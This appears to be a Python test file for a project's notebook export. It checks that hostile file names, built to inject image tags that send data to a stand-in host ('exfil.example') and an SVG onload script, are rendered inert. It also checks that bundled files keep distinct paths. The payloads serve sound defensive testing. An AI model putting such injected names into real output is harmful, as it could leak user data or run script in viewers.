"""Attacks on notebook export: what a hostile user's code or an obedient model puts in a
conversation must not make a notebook viewer fetch anything when the notebook is opened, and
the bundle's files must each keep their own path."""

from __future__ import annotations

import json
import re
from pathlib import Path

import nbformat

from labbot.app import open_records
from labbot.chat.history import tool_message
from labbot.config import load_settings
from labbot.export import export_conversation
from tests.conftest import chunks_of
from tests.export.test_export import call

# A file name that closes the code span it is shown in and opens an image (a special scheme
# without slashes is still fetched by browsers: "https:exfil.example" is https://exfil.example/).
HOSTILE_NAMES = [
    "x` <img src=https:exfil.example?d=salary-91000> `y.txt",
    "x` ![i](https:exfil.example?d=salary-91000) `y.txt",
    "x` <svg onload=alert(1)> `y.txt",
]
_LIVE = re.compile(r"<[A-Za-z/!?]|!\[")


async def test_output_file_names_are_inert_in_the_notebook(tmp_path: Path) -> None:
    """The names of files the code made are listed in a Markdown output: no raw tag and no
    image survives in it (nor anywhere in a Markdown output or cell)."""
    data = tmp_path / "data"
    async with open_records(load_settings(LABBOT_DATA_DIR=data)) as (store, conversations):
        made = [
            (await store.save("7", name, chunks_of(b"x"), source="generated")).record
            for name in HOSTILE_NAMES
        ]
        assert all("`" in r.name and "<" in r.name or "![" in r.name for r in made)
        result = {"status": "ok", "files": [r.output().to_json() for r in made]}
        await conversations.append(
            "7",
            "c",
            [
                {"role": "user", "content": "save"},
                {"role": "assistant", "content": "", "tool_calls": [call("k1", "save()")]},
                tool_message("k1", result),
            ],
        )
        done = await export_conversation(conversations, store, "7", "c")
    nb = nbformat.reads(done.text(), as_version=4)
    markdown = [c.source for c in nb.cells if c.cell_type == "markdown"]
    for cell in nb.cells:
        for output in cell.get("outputs", []):
            markdown += [v for k, v in output.get("data", {}).items() if k != "text/plain"]
    shown = [text for text in markdown if "exfil" in text or "svg" in text]
    assert shown, json.dumps(markdown)  # the names are shown...
    assert not [text for text in shown if _LIVE.search(text)], shown  # ...inert


async def test_bundled_files_never_share_a_path(tmp_path: Path) -> None:
    """Two files named data.csv, and a third the user named as the second's renamed copy
    ("data-<its id's first six>.csv"): three files, three paths."""
    data = tmp_path / "data"
    async with open_records(load_settings(LABBOT_DATA_DIR=data)) as (store, conversations):
        first = (await store.save("7", "data.csv", chunks_of(b"a\n1\n"))).record
        second = (await store.save("7", "data.csv", chunks_of(b"a\n2\n"))).record
        third_name = f"data-{second.id[:6]}.csv"
        third = (await store.save("7", third_name, chunks_of(b"a\n3\n"))).record
        code = "\n".join(f"load_file('{r.id}')" for r in (first, second, third))
        await conversations.append(
            "7",
            "c",
            [
                {"role": "user", "content": "load"},
                {"role": "assistant", "content": "", "tool_calls": [call("k1", code)]},
                tool_message("k1", {"status": "ok"}),
            ],
        )
        done = await export_conversation(conversations, store, "7", "c")
    paths = [f.path for f in done.files]
    assert len(paths) == 3 and len(set(paths)) == 3, paths
